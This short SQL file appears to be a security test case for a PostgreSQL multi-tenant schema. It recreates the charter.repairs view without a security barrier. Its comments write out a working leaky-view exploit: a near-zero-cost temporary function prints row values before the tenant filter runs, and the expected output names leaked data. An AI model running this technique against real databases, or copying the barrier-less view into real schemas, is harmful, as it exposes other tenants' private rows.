-- The view lost its barrier: a cheap function of the caller sees the rows before the filter does.
-- about: repairs
-- as: hf_regatta_app
-- exploit: SET charter.fleet_id = '1';
-- exploit: CREATE FUNCTION pg_temp.peek(t text) RETURNS boolean LANGUAGE plpgsql COST 0.000001 AS $$ BEGIN RAISE NOTICE 'saw %', t; RETURN true; END $$;
-- exploit: SET enable_indexscan = off;
-- exploit: SET enable_bitmapscan = off;
-- exploit: SELECT count(*) FROM charter.repairs WHERE pg_temp.peek(defect);
-- shows: saw Road-secret leak
ALTER TABLE data.repairs ADD COLUMN cost numeric(10, 2);
CREATE OR REPLACE VIEW charter.repairs AS
  SELECT fleet_id, repair_no, boat_no, period, defect, cost FROM data.repairs WHERE fleet_id = charter.fleet()
  WITH LOCAL CHECK OPTION;
